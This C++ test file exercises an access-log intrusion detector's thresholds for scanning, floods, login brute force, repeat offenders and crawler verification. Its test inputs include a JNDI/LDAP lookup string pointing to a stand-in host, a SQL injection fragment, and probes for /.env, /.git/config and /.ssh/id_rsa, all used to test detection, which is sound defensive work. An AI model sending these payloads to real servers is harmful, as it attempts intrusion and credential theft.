// Each detection of a client just below and at its threshold, with the options that a site has where
// nobody said anything.
#include <gmock/gmock.h>

#include <algorithm>
#include <memory>
#include <string>
#include <vector>

#include "detect/watched_site.h"

namespace accesslog {
namespace {

using std::chrono::hours;
using std::chrono::minutes;
using std::chrono::seconds;
using ::testing::Contains;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

// Of one detection, at the end.
std::vector<Episode> Found(WatchedSite& site, Detection detection) {
  std::vector<Episode> episodes = site.Finish();
  std::erase_if(episodes, [&](const Episode& episode) { return episode.detection != detection; });
  return episodes;
}

std::string Word(int number) {
  return std::string(1, static_cast<char>('a' + number / 26)) + static_cast<char>('a' + number % 26) + "x";
}

Attempt Get(const std::string& path, uint16_t status = 404) {
  return {.status = status, .method = "GET", .path = path};
}
Attempt Ask(const std::string& query, uint16_t status = 404) {
  return {.status = status, .method = "GET", .path = "/", .query = query};
}

// Different pages that are missing.
void Search(WatchedSite& site, int pages, Time at = kStart, const std::string& client = kAttacker,
            const std::string& user_agent = "") {
  for (int i = 0; i < pages; ++i) {
    Attempt attempt = Get("/" + Word(i), i % 3 == 0 ? 404 : i % 3 == 1 ? 403 : 400);
    attempt.client = client;
    attempt.user_agent = user_agent;
    site.See(attempt, at + i * seconds{20});
  }
}

TEST(Recon, IsTenShapesOfPaths) {
  WatchedSite nine;
  Search(nine, 9);
  EXPECT_THAT(Found(nine, Detection::kReconDistinctErrorPaths), IsEmpty());
  WatchedSite ten;
  Search(ten, 10);
  const auto episodes = Found(ten, Detection::kReconDistinctErrorPaths);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].value, 10);
  EXPECT_EQ(episodes[0].threshold, 10);
  EXPECT_EQ(episodes[0].severity, Severity::kWarning);
  EXPECT_EQ(episodes[0].first, kStart);
  EXPECT_EQ(episodes[0].last, kStart + seconds{180});
}

TEST(Recon, IsThatOfFiveMinutes) {
  WatchedSite site;
  for (int i = 0; i < 50; ++i) site.See(Get("/" + Word(i)), kStart + i * seconds{34});
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
}

TEST(Recon, FoldsNumbers) {
  WatchedSite site;
  for (int i = 0; i < 500; ++i) site.See(Get("/item/" + std::to_string(i)), kStart);
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
}

TEST(Recon, LeavesOutStaticFilesAndWebDav) {
  WatchedSite site;
  for (int i = 0; i < 100; ++i) {
    site.See(Get("/" + Word(i) + ".png"), kStart);
    Attempt dav = Get("/dav/" + Word(i));
    dav.method = "PROPFIND";
    site.See(dav, kStart);
  }
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
}

TEST(Recon, LeavesOutWhatIsThereOrNeedsALogin) {
  WatchedSite site;
  for (int i = 0; i < 100; ++i) {
    for (const uint16_t status : {200, 302, 401, 410, 500}) site.See(Get("/" + Word(i), status), kStart);
  }
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
}

TEST(Recon, SaturatesAtSixtyFour) {
  WatchedSite site;
  for (int i = 0; i < 200; ++i) site.See(Get("/" + Word(i)), kStart);
  const auto episodes = Found(site, Detection::kReconDistinctErrorPaths);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].value, 64);
}

TEST(AttackProbe, IsThreeDifferentRequests) {
  WatchedSite two;
  two.SeeMany(Get("/.env"), 50, kStart);
  two.SeeMany(Get("/.git/config"), 50, kStart);
  EXPECT_THAT(Found(two, Detection::kAttackProbe), IsEmpty());
  WatchedSite three;
  for (const char* path : {"/.env", "/.git/config", "/.ssh/id_rsa"}) three.See(Get(path), kStart);
  const auto episodes = Found(three, Detection::kAttackProbe);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].value, 3);
  EXPECT_EQ(episodes[0].severity, Severity::kWarning);
}

TEST(AttackProbe, CountsQueriesOfOnePath) {
  WatchedSite site;
  for (const char* id : {"1", "2", "3"}) {
    site.See(Ask(std::string("id=") + id + "+union+select+null,null", 200), kStart);
  }
  EXPECT_THAT(Found(site, Detection::kAttackProbe), SizeIs(1));
}

TEST(AttackProbe, IsNotMadeByAnAdministrator) {
  WatchedSite site;
  for (int i = 0; i < 10; ++i) site.See(Get("/phpmyadmin/" + Word(i), 200), kStart);
  EXPECT_THAT(Found(site, Detection::kAttackProbe), IsEmpty());
  WatchedSite scanned;
  for (int i = 0; i < 3; ++i) scanned.See(Get("/phpmyadmin/" + Word(i), 404), kStart);
  EXPECT_THAT(Found(scanned, Detection::kAttackProbe), SizeIs(1));
}

TEST(AttackProbe, IsCountedByFamilyAndAnswer) {
  WatchedSite site;
  site.SeeMany(Get("/.env"), 3, kStart);
  site.SeeMany(Get("/.env", 200), 2, kStart);
  EXPECT_EQ(site.detector().AttackRequests(AttackFamily::kSensitiveFile, false), 3U);
  EXPECT_EQ(site.detector().AttackRequests(AttackFamily::kSensitiveFile, true), 2U);
  EXPECT_EQ(site.detector().AttackRequests(AttackFamily::kXss, false), 0U);
}

TEST(ExploitAttempt, IsASingleOne) {
  WatchedSite none;
  none.See(Get("/.env"), kStart);
  EXPECT_THAT(Found(none, Detection::kExploitAttempt), IsEmpty());
  WatchedSite site;
  site.See(Ask("x=${jndi:ldap://x.example/a}"), kStart);
  const auto episodes = Found(site, Detection::kExploitAttempt);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].severity, Severity::kInfo);
  EXPECT_EQ(episodes[0].value, 1);
}

TEST(AttackAnswered, IsAFileThatWasGivenAway) {
  WatchedSite site;
  Attempt attempt = Get("/.env", 200);
  attempt.bytes = 777;
  site.See(attempt, kStart);
  const auto episodes = Found(site, Detection::kAttackRequestAnswered);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].severity, Severity::kCritical);
  EXPECT_EQ(episodes[0].value, 1);
}

TEST(AttackAnswered, IsNoneThatWasRefusedOrEmpty) {
  WatchedSite site;
  for (const uint16_t status : {301, 302, 400, 401, 403, 404, 410, 500}) site.See(Get("/.env", status), kStart);
  Attempt empty = Get("/.env", 200);
  empty.bytes = 0;
  site.See(empty, kStart);
  Attempt head = Get("/.env", 200);
  head.method = "HEAD";
  site.See(head, kStart);
  EXPECT_THAT(Found(site, Detection::kAttackRequestAnswered), IsEmpty());
}

// A site that answers everything with the same page.
TEST(AttackAnswered, IsNoSoft404) {
  WatchedSite site;
  for (int i = 0; i < 10; ++i) {
    Attempt page = Get("/" + Word(i), 200);
    page.client = "192.0.2.1";
    page.bytes = 5120;
    site.See(page, kStart);
  }
  Attempt attempt = Get("/.env", 200);
  attempt.bytes = 5120;
  site.See(attempt, kStart);
  attempt.path = "/.git/config";
  site.See(attempt, kStart);
  EXPECT_THAT(Found(site, Detection::kAttackRequestAnswered), IsEmpty());
  attempt.bytes = 92;
  site.See(attempt, kStart);
  EXPECT_THAT(Found(site, Detection::kAttackRequestAnswered), SizeIs(1));
}

TEST(ClientFlood, IsSixHundredRequestsAMinute) {
  WatchedSite below;
  below.SeeMany(Get("/logo.png", 200), 599, kStart, seconds{0});
  EXPECT_THAT(Found(below, Detection::kClientFlood), IsEmpty());
  WatchedSite site;
  site.SeeMany(Get("/logo.png", 200), 600, kStart, seconds{0});
  const auto episodes = Found(site, Detection::kClientFlood);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "requests");
  EXPECT_EQ(episodes[0].value, 600);
}

TEST(ClientFlood, IsThreeHundredOfPages) {
  WatchedSite below;
  below.SeeMany(Get("/page", 200), 299, kStart);
  EXPECT_THAT(Found(below, Detection::kClientFlood), IsEmpty());
  below.SeeMany(Get("/logo.png", 200), 300, kStart);
  EXPECT_THAT(Found(below, Detection::kClientFlood), IsEmpty()) << "299 pages, 599 requests";
  WatchedSite site;
  site.SeeMany(Get("/page", 200), 300, kStart);
  const auto episodes = Found(site, Detection::kClientFlood);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "dynamic_requests");
  EXPECT_EQ(episodes[0].value, 300);
}

TEST(ClientFlood, IsThatOfAMinute) {
  WatchedSite site;
  site.SeeMany(Get("/page", 200), 3000, kStart, std::chrono::milliseconds{210});
  EXPECT_THAT(Found(site, Detection::kClientFlood), IsEmpty());
}

TEST(ClientFlood, IsShownOnItsWayUp) {
  WatchedSite site;
  site.SeeMany(Get("/page", 200), 150, kStart);
  EXPECT_THAT(site.SignalsAt(kStart, "dynamic_requests"), IsEmpty());
  site.See(Get("/page", 200), kStart);
  ASSERT_THAT(site.SignalsAt(kStart, "dynamic_requests"), SizeIs(1));
  EXPECT_EQ(site.SignalsAt(kStart, "dynamic_requests")[0].value, 151U);
}

TEST(ClientServerErrors, AreFiftyInTenMinutes) {
  WatchedSite below;
  below.SeeMany(Get("/page", 500), 49, kStart, seconds{10});
  EXPECT_THAT(Found(below, Detection::kServerErrorRatioHigh), IsEmpty());
  WatchedSite site;
  site.SeeMany(Get("/page", 503), 50, kStart, seconds{10});
  const auto episodes = Found(site, Detection::kServerErrorRatioHigh);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].value, 50);
  EXPECT_EQ(episodes[0].window.name, "10m");
  EXPECT_EQ(episodes[0].severity, Severity::kWarning);
  WatchedSite slow;
  slow.SeeMany(Get("/page", 500), 200, kStart, seconds{13});
  EXPECT_THAT(Found(slow, Detection::kServerErrorRatioHigh), IsEmpty());
}

TEST(MalformedRequests, AreTenInTenMinutes) {
  Attempt junk = Get("", 400);
  junk.method = "";
  WatchedSite below;
  below.SeeMany(junk, 9, kStart, seconds{60});
  EXPECT_THAT(Found(below, Detection::kBadRequestRatioHigh), IsEmpty());
  WatchedSite site;
  site.SeeMany(junk, 10, kStart, seconds{60});
  const auto episodes = Found(site, Detection::kBadRequestRatioHigh);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].value, 10);
  EXPECT_EQ(episodes[0].severity, Severity::kInfo);
}

TEST(FailedRequests, AreFiveInFiveMinutes) {
  WatchedSite below;
  below.SeeMany(Get("/x.png"), 4, kStart);
  EXPECT_THAT(below.Finish(), IsEmpty());
  WatchedSite site;
  site.SeeMany(Get("/x.png"), 5, kStart);
  const auto episodes = site.Finish();
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].detection, Detection::kFailedRequests);
  EXPECT_EQ(episodes[0].severity, Severity::kInfo);
}

// Six failed logins in a minute.
void Guess(WatchedSite& site, Time at, int times = 6) {
  site.SeeMany({.status = 401, .path = "/login"}, times, at, seconds{1});
}

TEST(RepeatOffender, IsWhoAttacksOnThreeDays) {
  WatchedSite site;
  Guess(site, kStart);
  Guess(site, kStart + hours{24});
  const auto shown = site.SignalsAt(kStart + hours{24} + seconds{5}, "offense_days");
  ASSERT_THAT(shown, SizeIs(1));
  EXPECT_EQ(shown[0].value, 2U);
  EXPECT_EQ(site.detector().Episodes(Detection::kRepeatOffender), 0U);
  Guess(site, kStart + hours{6 * 24});
  const auto episodes = Found(site, Detection::kRepeatOffender);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "offense_days");
  EXPECT_EQ(episodes[0].value, 3);
  EXPECT_EQ(episodes[0].severity, Severity::kWarning);
}

// In Istanbul, three hours ahead, these are three evenings and nights; by UTC they are two days.
TEST(RepeatOffender, CountsTheDaysOfTheSite) {
  const auto istanbul = TimeZone::Named("Europe/Istanbul");
  ASSERT_TRUE(istanbul) << istanbul.error().message;
  DetectOptions options;
  options.zone = *istanbul;
  WatchedSite site(options);
  Guess(site, kStart);
  Guess(site, kStart + hours{12});
  EXPECT_EQ(site.detector().Episodes(Detection::kRepeatOffender), 0U);
  Guess(site, kStart + hours{36});
  const auto episodes = Found(site, Detection::kRepeatOffender);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "offense_days");
}

TEST(RepeatOffender, IsForgivenAfterAWeek) {
  WatchedSite site;
  Guess(site, kStart);
  Guess(site, kStart + hours{24});
  Guess(site, kStart + hours{7 * 24});
  EXPECT_THAT(Found(site, Detection::kRepeatOffender), IsEmpty());
}

TEST(RepeatOffender, IsWhoAttacksInThreeWays) {
  WatchedSite site;
  Guess(site, kStart);
  for (const char* path : {"/.env", "/.git/config", "/.ssh/id_rsa"}) site.See(Get(path), kStart + minutes{1});
  EXPECT_EQ(site.detector().Episodes(Detection::kRepeatOffender), 0U);
  site.SeeMany(Get("/page", 500), 50, kStart + minutes{2});
  const auto episodes = Found(site, Detection::kRepeatOffender);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "offense_kinds");
  EXPECT_EQ(episodes[0].value, 3);
}

TEST(RepeatOffender, IsNotWhoIsOnlyWorthAMention) {
  WatchedSite site;
  for (int day = 0; day < 6; ++day) {
    site.SeeMany(Get("/x.png"), 20, kStart + day * hours{24});
    site.See(Ask("x=${jndi:ldap://x.example/a}"), kStart + day * hours{24});
  }
  EXPECT_THAT(Found(site, Detection::kRepeatOffender), IsEmpty());
}

DetectOptions OnDay(std::optional<int> day) {
  DetectOptions options;
  options.login.day = day;
  return options;
}

// The site is learned for two weeks, in which another client logs in; then this one does.
void LogInAfterTwoWeeks(WatchedSite& site, Duration later = hours{14 * 24}) {
  const Attempt in = {.client = "192.0.2.1", .status = 302, .path = "/wp-login.php"};
  site.See(in, kStart);
  Attempt stranger = in;
  stranger.client = kAttacker;
  site.See(stranger, kStart + later);
}

TEST(UnusualClient, IsNobodyWhileTheSiteIsLearned) {
  WatchedSite site;
  LogInAfterTwoWeeks(site, hours{14 * 24} - seconds{1});
  EXPECT_THAT(Found(site, Detection::kUnusualClient), IsEmpty());
}

TEST(UnusualClient, IsWhoLogsInForTheFirstTime) {
  WatchedSite site;
  LogInAfterTwoWeeks(site);
  LogInAfterTwoWeeks(site, hours{14 * 24 + 1});
  const auto episodes = Found(site, Detection::kUnusualClient);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].client, kAttacker);
  EXPECT_EQ(episodes[0].signal, "unusual_client");
  EXPECT_EQ(episodes[0].severity, Severity::kInfo);
}

// kStart is a Monday, and so is two weeks later.
TEST(UnusualClient, IsNoMoreThanThatOnTheLoginDay) {
  WatchedSite site(OnDay(0));
  LogInAfterTwoWeeks(site);
  const auto episodes = Found(site, Detection::kUnusualClient);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "unusual_client");
  EXPECT_EQ(episodes[0].severity, Severity::kInfo);
}

TEST(UnusualClient, IsWorseOnAnotherDay) {
  WatchedSite site(OnDay(3));
  LogInAfterTwoWeeks(site);
  const auto episodes = Found(site, Detection::kUnusualClient);
  ASSERT_THAT(episodes, SizeIs(1));
  EXPECT_EQ(episodes[0].signal, "unusual_client_off_day");
  EXPECT_EQ(episodes[0].severity, Severity::kWarning);
}

TEST(UnusualClient, IsWhoReadsWhatIsProtected) {
  DetectOptions options;
  options.protected_paths = {"/intern"};
  WatchedSite site(options);
  Attempt known = Get("/intern", 200);
  known.client = "192.0.2.1";
  site.See(known, kStart);
  site.See(Get("/intern/x", 403), kStart + hours{15 * 24});
  EXPECT_EQ(site.detector().Episodes(Detection::kUnusualClient), 0U) << "refused";
  site.See(known, kStart + hours{15 * 24});
  EXPECT_EQ(site.detector().Episodes(Detection::kUnusualClient), 0U) << "known";
  site.See(Get("/intern/x", 200), kStart + hours{15 * 24});
  EXPECT_THAT(Found(site, Detection::kUnusualClient), SizeIs(1));
}

// Everything that Search, Guess and a flood bring about.
void Rage(WatchedSite& site, const std::string& client, const std::string& user_agent) {
  Search(site, 20, kStart, client, user_agent);
  const auto from = [&](Attempt attempt) {
    attempt.client = client;
    attempt.user_agent = user_agent;
    return attempt;
  };
  const Time behind = kStart + minutes{10};
  site.SeeMany(from(Get("/page", 200)), 1000, behind);
  site.SeeMany(from(Get("/page", 500)), 100, behind);
  site.SeeMany(from(Get("/page", 400)), 100, behind);
}

std::vector<Detection> Kinds(WatchedSite& site) {
  std::vector<Detection> kinds;
  for (const Episode& episode : site.Finish()) kinds.push_back(episode.detection);
  return kinds;
}

DetectOptions WithGooglebot() {
  DetectOptions options;
  options.crawlers = std::make_shared<const Crawlers>(
      Crawlers{{"googlebot", {"Googlebot"}, IpRanges({*IpPrefix::Parse("66.249.64.0/27")})}});
  return options;
}
constexpr const char* kGoogle = "66.249.64.5";
constexpr const char* kClaim = "Mozilla/5.0 (compatible; Googlebot/2.1)";

TEST(VerifiedCrawler, IsForgivenWhatCrawlingBringsAbout) {
  WatchedSite site(WithGooglebot());
  Rage(site, kGoogle, kClaim);
  EXPECT_THAT(Kinds(site), IsEmpty());
}

TEST(VerifiedCrawler, IsNotWhoOnlySaysSo) {
  WatchedSite site(WithGooglebot());
  Rage(site, kAttacker, kClaim);
  const auto kinds = Kinds(site);
  for (const Detection detection :
       {Detection::kReconDistinctErrorPaths, Detection::kClientFlood, Detection::kServerErrorRatioHigh,
        Detection::kBadRequestRatioHigh, Detection::kFailedRequests}) {
    EXPECT_THAT(kinds, Contains(detection)) << DetectionName(detection);
  }
}

TEST(VerifiedCrawler, IsNotForgivenAttacks) {
  WatchedSite site(WithGooglebot());
  const auto from_google = [](Attempt attempt) {
    attempt.client = kGoogle;
    attempt.user_agent = kClaim;
    return attempt;
  };
  site.See(from_google(Ask("x=${jndi:ldap://x.example/a}")), kStart);
  for (const char* path : {"/.env", "/.git/config", "/.ssh/id_rsa"}) site.See(from_google(Get(path)), kStart);
  site.See(from_google(Get("/.env", 200)), kStart);
  site.SeeMany(from_google({.status = 401, .path = "/login"}), 6, kStart);
  const auto kinds = Kinds(site);
  for (const Detection detection : {Detection::kExploitAttempt, Detection::kAttackProbe,
                                    Detection::kAttackRequestAnswered, Detection::kLoginBruteForce}) {
    EXPECT_THAT(kinds, Contains(detection)) << DetectionName(detection);
  }
}

DetectOptions WithNetworks(uint32_t internal, uint32_t nat) {
  DetectOptions options;
  options.internal = {*IpPrefix::Parse("10.0.0.0/8")};
  options.nat = {*IpPrefix::Parse("198.51.100.0/24")};
  const Threshold errors = {Signal::kErrorPaths, kWindow5m, internal};
  options.network_thresholds = {{Network::kInternal, errors},
                                {Network::kNat, {Signal::kErrorPaths, kWindow5m, nat}}};
  return options;
}

TEST(NetworkThresholds, HoldForTheirNetworksOnly) {
  WatchedSite site(WithNetworks(4, 20));
  Search(site, 3, kStart, "10.0.0.1");
  Search(site, 9, kStart, kAttacker);
  Search(site, 14, kStart, "198.51.100.1");
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
  WatchedSite reached(WithNetworks(4, 12));
  Search(reached, 4, kStart, "10.0.0.1");
  Search(reached, 12, kStart, "198.51.100.1");
  const auto episodes = Found(reached, Detection::kReconDistinctErrorPaths);
  ASSERT_THAT(episodes, SizeIs(2));
  for (const Episode& episode : episodes) {
    const bool internal = episode.client == "10.0.0.1";
    EXPECT_EQ(episode.network, internal ? Network::kInternal : Network::kNat);
    EXPECT_EQ(episode.threshold, internal ? 4 : 12);
    EXPECT_EQ(episode.value, episode.threshold);
  }
}

TEST(NetworkThresholds, OfZeroAreNeverReached) {
  WatchedSite site(WithNetworks(0, 0));
  Search(site, 100, kStart, "10.0.0.1");
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), IsEmpty());
  const auto& thresholds = site.detector().options().thresholds;
  for (size_t i = 0; i < thresholds.size(); ++i) {
    const bool is_it = thresholds[i].signal == Signal::kErrorPaths;
    EXPECT_EQ(site.detector().LimitOf(i, Network::kInternal).has_value(), !is_it);
    EXPECT_TRUE(site.detector().LimitOf(i, Network::kExternal).has_value());
  }
}

// Off for everybody else.
TEST(NetworkThresholds, MayBeTheOnlyOnes) {
  DetectOptions options = WithNetworks(4, 5);
  for (Threshold& threshold : options.thresholds) {
    if (threshold.signal == Signal::kErrorPaths) threshold.value = UINT32_MAX;
  }
  WatchedSite site(options);
  Search(site, 60, kStart, kAttacker);
  Search(site, 4, kStart, "10.0.0.1");
  EXPECT_THAT(Found(site, Detection::kReconDistinctErrorPaths), SizeIs(1));
}

TEST(ThresholdsOff, AreNeverReached) {
  for (size_t i = 0; i < kSignalCount; ++i) {
    DetectOptions options;
    std::erase_if(options.thresholds, [&](const Threshold& threshold) {
      return DetectionOf(threshold.signal) == DetectionOf(static_cast<Signal>(i));
    });
    WatchedSite site(options);
    Rage(site, kAttacker, "");
    Guess(site, kStart);
    for (const char* path : {"/.env", "/.git/config", "/.ssh/id_rsa"}) site.See(Get(path, 200), kStart);
    site.See(Ask("x=${jndi:ldap://x.example/a}"), kStart);
    EXPECT_THAT(Kinds(site), Not(Contains(DetectionOf(static_cast<Signal>(i)))))
        << SignalName(static_cast<Signal>(i));
  }
}

TEST(IgnoredRequests, AreNeverCounted) {
  DetectOptions options;
  options.ignore_paths = {"/status"};
  WatchedSite site(options);
  site.SeeMany(Get("/status/.env", 200), 1000, kStart);
  EXPECT_THAT(site.Finish(), IsEmpty());
  EXPECT_THAT(site.SignalsAt(kStart), IsEmpty());
}

}  // namespace
}  // namespace accesslog
